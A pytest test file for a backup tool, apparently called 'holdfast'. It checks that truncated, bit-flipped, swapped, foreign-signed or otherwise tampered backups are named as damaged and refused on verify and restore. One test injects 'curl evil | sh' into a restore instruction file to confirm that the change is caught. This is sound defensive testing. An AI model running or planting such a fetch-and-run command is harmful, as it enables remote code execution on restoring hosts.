"""Whoever can write to the store can destroy backups, but can neither change one unseen nor plant one."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from holdfast.jobs.catalog import rebuild
from holdfast.model.backup import Backup
from holdfast.model.errors import Error, IntegrityError, KeyFileError, NotFoundError
from holdfast.streams import age_keys, sign
from support.oracle import Oracle
from support.restoring import databases, drop
from support.shelf import (
    A_ROW,
    CATALOG,
    DATABASE,
    DUMP,
    GLOBALS,
    MANIFEST,
    PARTS,
    SIGNATURE,
    Shelf,
    host,
    restored,
    row,
    state,
    verdict,
)
from support.world import World, cli, write_config

NAME = "from a tampered backup"


def asked(on: World, ours: Shelf, folder: Path, *given_up: Backup) -> Oracle:
    """Give an oracle for a host of the shelf. There are many cases, so it reads the newest backup to its end only."""
    return Oracle(
        services=on.services,
        targets=(on.target, replace(on.target, name="other")),
        folder=folder,
        cluster=ours.cluster,
        secrets={"a row": A_ROW},
        given_up={each.id for each in given_up},
    )


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """A way of tampering with the first backup; what verify and restore say of which object; and what is listed.

    `anew` is how a ledger rebuilt from nothing lists the backup: a changed byte cannot be seen there.
    """

    name: str
    do: Callable[[Shelf], object]
    says: str
    error: type[Error] = IntegrityError
    anew: tuple[str | None, ...] = (None,)


def _truncate(name: str) -> Callable[[Shelf], object]:
    return lambda on: on.file(name).write_bytes(
        on.file(name).read_bytes()[: on.file(name).stat().st_size // 2]
    )


def _append(name: str) -> Callable[[Shelf], object]:
    return lambda on: on.file(name).write_bytes(on.file(name).read_bytes() + b"\0")


def _flip(name: str, at: int) -> Callable[[Shelf], None]:
    return lambda on: on.flip(name, at)


def _spoilt(name: str, *, sized: str | None) -> list[Case]:
    says = name.removesuffix(".minisig")
    return [
        Case(name=f"truncated {name}", do=_truncate(name), says=says, anew=(sized,)),
        Case(name=f"emptied {name}", do=lambda on: on.file(name).write_bytes(b""), says=says, anew=(sized,)),
        Case(name=f"missing {name}", do=lambda on: on.file(name).unlink(), says=says, anew=(sized,)),
        Case(name=f"appended to {name}", do=_append(name), says=says, anew=(sized,)),
    ]


def _edit(on: Shelf) -> None:
    on.file(MANIFEST).write_bytes(on.file(MANIFEST).read_bytes().replace(b'"tampered"', b'"Tampered"'))


def _swap(on: Shelf) -> None:
    data = on.file(GLOBALS).read_bytes()
    on.replace(GLOBALS, on.file(CATALOG))
    on.file(CATALOG).write_bytes(data)


def _manifest_of(of: Callable[[Shelf], Path]) -> Callable[[Shelf], None]:
    def do(on: Shelf) -> None:
        for name in (MANIFEST, SIGNATURE):
            on.replace(name, of(on) / name)

    return do


def _strangers_signature(on: Shelf) -> None:
    on.sign(MANIFEST, on.file(MANIFEST).read_bytes(), sign.generate())


CASES = [
    *(case for name in PARTS for case in _spoilt(name, sized="damaged")),
    *(case for name in (MANIFEST, SIGNATURE) for case in _spoilt(name, sized=None)),
    *(
        Case(
            name=f"flipped {at} of {name}",
            do=_flip(name, at),
            says=name,
            anew=("complete",),
        )
        for name, at in ((GLOBALS, 0), (DUMP, 3000), (CATALOG, -1))
    ),
    Case(name="edited manifest", do=_edit, says=MANIFEST),
    Case(name="swapped parts", do=_swap, says=CATALOG, anew=("damaged",)),
    Case(
        name="dump of another backup",
        do=lambda on: on.replace(DUMP, on.folder(on.second) / DUMP),
        says=DUMP,
        anew=("complete", "damaged"),
    ),
    Case(
        name="dump of another target",
        do=lambda on: on.replace(DUMP, on.folder(on.foreign) / DUMP),
        says=DUMP,
        anew=("complete", "damaged"),
    ),
    Case(name="manifest of another backup", do=_manifest_of(lambda on: on.folder(on.second)), says=MANIFEST),
    Case(name="manifest of another target", do=_manifest_of(lambda on: on.folder(on.foreign)), says=MANIFEST),
    Case(
        name="signature of another file",
        do=lambda on: on.replace(SIGNATURE, on.folder(on.second) / SIGNATURE),
        says=MANIFEST,
    ),
    Case(name="a stranger's signature", do=_strangers_signature, says=MANIFEST, error=KeyFileError),
]


@pytest.mark.fault("damage.bits")
@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
@pytest.mark.sampled(5)
def test_what_was_tampered_with_is_named_not_restored_and_not_listed_as_good(
    ours: Shelf, tmp_path: Path, case: Case
) -> None:
    with host(ours, tmp_path / "old") as old:
        known = row(old.services, ours.first)
        with asked(old, ours, tmp_path, ours.first) as oracle:
            case.do(ours)

            found = verdict(old, known)
            assert isinstance(found, case.error)
            assert f"{ours.first.id}/{case.says}" in found.message
            oracle.told(found)
            assert oracle.visible("verify", "failed") == found.code
            assert verdict(old, row(old.services, ours.second)) is None
            assert verdict(old, row(old.services, ours.foreign)) is None
            with pytest.raises((case.error, NotFoundError), match=ours.first.id):
                restored(old, known, ours, NAME)
            assert NAME not in databases(ours.cluster)
            rebuild(old.services)
            assert state(old.services, ours.first) in ("damaged", None)
    with host(ours, tmp_path / "new") as new:
        assert state(new.services, ours.first) in case.anew
        assert state(new.services, ours.second) == state(new.services, ours.foreign) == "complete"


@pytest.mark.fault("damage.bits")
@pytest.mark.parametrize("name", [*PARTS, MANIFEST])
def test_no_single_bit_can_change_unseen(ours: Shelf, tmp_path: Path, name: str) -> None:
    with host(ours, tmp_path) as made, asked(made, ours, tmp_path) as oracle:
        known, size = row(made.services, ours.first), ours.file(name).stat().st_size
        for at in sorted({0, 1, 30, size // 3, size // 2, size - 17, size - 16, size - 1}):
            ours.flip(name, at)
            found = verdict(made, known)
            assert type(found) is IntegrityError, at
            oracle.told(found)
            assert oracle.visible("verify", "failed") == "integrity"
            ours.flip(name, at)
        assert verdict(made, known) is None
        assert state(made.services, ours.first) == "complete"


def test_no_bit_of_the_signature_that_counts_can_change_unseen(ours: Shelf, tmp_path: Path) -> None:
    with host(ours, tmp_path) as made:
        known, text = row(made.services, ours.first), ours.file(SIGNATURE).read_bytes()
        for at in range(text.index(b"\n"), len(text) - 1, 7):
            ours.flip(SIGNATURE, at)
            assert isinstance(verdict(made, known), IntegrityError | KeyFileError), at
            ours.flip(SIGNATURE, at)
        assert verdict(made, known) is None


def test_parts_without_a_manifest_are_a_problem_and_no_backup(ours: Shelf, tmp_path: Path) -> None:
    for name in (MANIFEST, SIGNATURE):
        ours.file(name).unlink()
    with host(ours, tmp_path) as made:
        assert state(made.services, ours.first) is None
        assert rebuild(made.services).problems[0][0] == f"shop/{ours.first.id}/"


@pytest.mark.fault("damage.gone")
def test_a_manifest_without_parts_is_a_damaged_backup(ours: Shelf, tmp_path: Path) -> None:
    with host(ours, tmp_path) as made, asked(made, ours, tmp_path, ours.first) as oracle:
        for name in PARTS:
            ours.file(name).unlink()
        oracle.source = ours.cluster.conninfo.with_database(DATABASE)
        found = verdict(made, row(made.services, ours.first))
        assert isinstance(found, IntegrityError)
        oracle.told(found)
        assert oracle.visible("verify", "failed") == "integrity"
    with host(ours, tmp_path / "new") as new:
        assert state(new.services, ours.first) == "damaged"


def test_a_lost_restore_text_is_told_and_takes_nothing_from_the_backup(ours: Shelf, tmp_path: Path) -> None:
    ours.file("RESTORE.txt").unlink()
    with host(ours, tmp_path) as made:
        known = row(made.services, ours.first)
        assert verdict(made, known) is None
        assert any("RESTORE.txt" in text for text, _ in made.recorder.warnings)
        try:
            restored(made, known, ours, NAME)
            assert NAME in databases(ours.cluster)
        finally:
            drop(ours.cluster, NAME)


def test_a_changed_restore_text_is_damage(ours: Shelf, tmp_path: Path) -> None:
    text = ours.file("RESTORE.txt")
    text.write_bytes(text.read_bytes().replace(b"pg_restore", b"curl evil | sh; pg_restore"))
    with host(ours, tmp_path) as made:
        found = verdict(made, row(made.services, ours.first))
        assert found is not None
        assert found.code == "integrity"
        assert "RESTORE.txt" in found.message


@pytest.mark.fault("loss.key")
def test_without_the_right_identity_nothing_is_opened(ours: Shelf, tmp_path: Path) -> None:
    with host(ours, tmp_path / "right") as right, asked(right, ours, tmp_path, ours.first) as oracle:
        without_the_right_identity(ours, tmp_path, oracle)


def without_the_right_identity(ours: Shelf, tmp_path: Path, oracle: Oracle) -> None:
    wrong = replace(ours.keys, identities=(age_keys.generate(),))
    with host(ours, tmp_path / "wrong", wrong) as made:
        known = row(made.services, ours.first)
        found = verdict(made, known)
        assert type(found) is KeyFileError
        assert CATALOG in found.message
        oracle.told(found)
        assert state(made.services, ours.first) == "complete"  # the backup is not to blame
        with pytest.raises(KeyFileError, match=CATALOG):
            restored(made, known, ours, NAME)
    with host(ours, tmp_path / "none", replace(ours.keys, identities=())) as made:
        known = row(made.services, ours.first)
        assert verdict(made, known) is None
        assert row(made.services, ours.first).proof == "verified"
        with pytest.raises(KeyFileError, match="no identity") as caught:
            restored(made, known, ours, NAME)
        oracle.told(caught.value)
        ours.flip(DUMP, 99)
        assert type(verdict(made, known)) is IntegrityError
    assert NAME not in databases(ours.cluster)


@pytest.mark.parametrize(
    ("do", "status", "says"),
    [
        (lambda on: on.flip(DUMP, 5000), 22, DUMP),
        pytest.param(_strangers_signature, 23, MANIFEST, marks=pytest.mark.extended),
    ],
    ids=["flipped", "stranger"],
)
@pytest.mark.extended
def test_the_commands_say_what_is_wrong_and_exit_so(
    ours: Shelf, tmp_path: Path, do: Callable[[Shelf], object], status: int, says: str
) -> None:
    config = write_config(tmp_path, ours.cluster.conninfo.argv_dsn(), stores={"disk": f'url = "{ours.path}"'})
    for name in ("identity.txt", "signing.key"):
        (tmp_path / name).unlink()
    age_keys.write_identity_file(
        tmp_path / "identity.txt", ours.keys.identities[0], ours.signing.public, ours.first.started_at
    )
    assert cli("--config", config, "catalog", "rebuild", "--quiet").returncode == 0
    do(ours)

    verified = cli("--config", config, "verify", ours.first.id)
    args = ("restore", ours.first.id, "--database", DATABASE, "--as", NAME)
    refused = cli("--config", config, *args)

    assert (verified.returncode, f"{ours.first.id}/{says}" in verified.stdout) == (status, True), verified
    assert refused.returncode in (status, 12), refused
    assert "Traceback" not in verified.stderr + refused.stderr
    assert f"{ours.first.id}" in refused.stderr
    assert NAME not in databases(ours.cluster)
